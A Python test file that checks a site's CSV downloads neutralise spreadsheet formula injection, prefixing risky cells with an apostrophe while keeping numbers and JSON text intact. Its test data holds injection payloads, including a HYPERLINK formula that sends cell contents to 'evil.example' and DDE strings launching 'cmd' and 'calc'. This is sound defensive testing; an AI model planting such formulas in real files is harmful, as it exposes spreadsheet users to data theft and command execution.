"""CSV formula injection: no cell of any CSV download can run as a formula in a spreadsheet (OWASP's
rule, macros/publish/spreadsheet.py), while numbers stay numbers and the JSON keeps the text exactly."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import typing

import pytest

from macros.data import model
from macros.publish.exports import DATASETS, export_files
from macros.publish.spreadsheet import csv_file

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list
ATTACKS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'/c calc'!A1",
           "\t=1+1", "\r=1+1", "=1+1", "-3.5e"]


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_no_formula(data: bytes, name: str) -> None:
    for row in cells(data):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or is_number(cell), f"{name}: {cell!r} would run as a formula"


def value_for(annotation, index: int):
    """A value of a row field's type; every text is an attack."""
    if typing.get_origin(annotation) in (typing.Union, type(int | None)):
        annotation = next(a for a in typing.get_args(annotation) if a is not type(None))
    if annotation is str:
        return ATTACKS[index % len(ATTACKS)]
    return {dt.date: dt.date(2019, 5, 15), int: -1, float: -3.5}.get(annotation) or next(iter(annotation))


@pytest.mark.parametrize("dataset", DATASETS, ids=[d.name for d in DATASETS])
def test_every_text_column_of_every_csv_is_neutralised_and_numbers_stay_numbers(dataset):
    fields = dataset.row.model_fields
    row = dataset.row(**{name: value_for(info.annotation, i) for i, (name, info) in enumerate(fields.items())})
    data = csv_file(dataset.row.columns(), [row.model_dump(mode="json")])
    assert_no_formula(data, dataset.name)
    header, written = cells(data)
    dumped = row.model_dump(mode="json")
    for column, cell in zip(header, written, strict=True):
        value = dumped[column]
        if isinstance(value, str) and value.startswith(FORMULA_STARTS):
            assert cell == "'" + value, column
        elif isinstance(value, (int, float)):
            assert float(cell) == value, column  # -1 and -3.5 are still numbers


def test_formulas_written_by_a_clerk_are_neutralised_in_the_built_downloads(project):
    edits = {
        "data/recommendations/ofsted-2019.yaml": [("    title: Caseloads\n", '    title: "=1+1"\n')],
        "data/progress/2019-05-15.yaml": [("    summary: >-\n      Ofsted identified", "    summary: >-\n      @SUM(A1) Ofsted identified")],
        "data/meetings.yaml": [("also_known_as: the September meeting", 'also_known_as: "+cmd|\' /C calc\'!A0"')],
        "data/resolutions.yaml": [("    asks: >-\n      Keep", "    asks: >-\n      \t-2+3 Keep")],
    }
    for file, changes in edits.items():
        for old, new in changes:
            project.replace(file, old, new)
    files = export_files(project.load(), "https://example.org/")
    for dataset in DATASETS:
        assert_no_formula(files[f"{dataset.name}.csv"], dataset.name)
    recs = json.loads(files["recommendations.json"])["rows"]
    assert recs[0]["title"] == "=1+1"  # the JSON keeps the text exactly
    assert cells(files["recommendations.csv"])[1][4] == "'=1+1"
    assert json.loads(files["resolutions.json"])["rows"][0]["asks"].startswith("-2+3 Keep")  # the tab is trimmed
    assert any("'@SUM(A1) Ofsted" in cell for row in cells(files["progress-updates.csv"]) for cell in row)


def test_the_real_downloads_have_no_cell_that_runs_as_a_formula(real_site):
    for dataset in DATASETS:
        assert_no_formula((real_site.folder / "data" / f"{dataset.name}.csv").read_bytes(), dataset.name)


def test_numbers_and_ordinary_text_are_left_as_they_are():
    from macros.publish.spreadsheet import defused

    assert [defused(v) for v in (-3.5, "-3.5", "-12", "%", "a=b", "", None, 7)] == [-3.5, "-3.5", "-12", "%", "a=b", "",
                                                                                   "", 7]


def test_the_data_page_explains_the_apostrophe(real_site):
    text = real_site.text("data/")
    assert "a text cell that would start with one of them starts with an apostrophe" in text
    assert "The JSON files hold every text exactly as written." in text
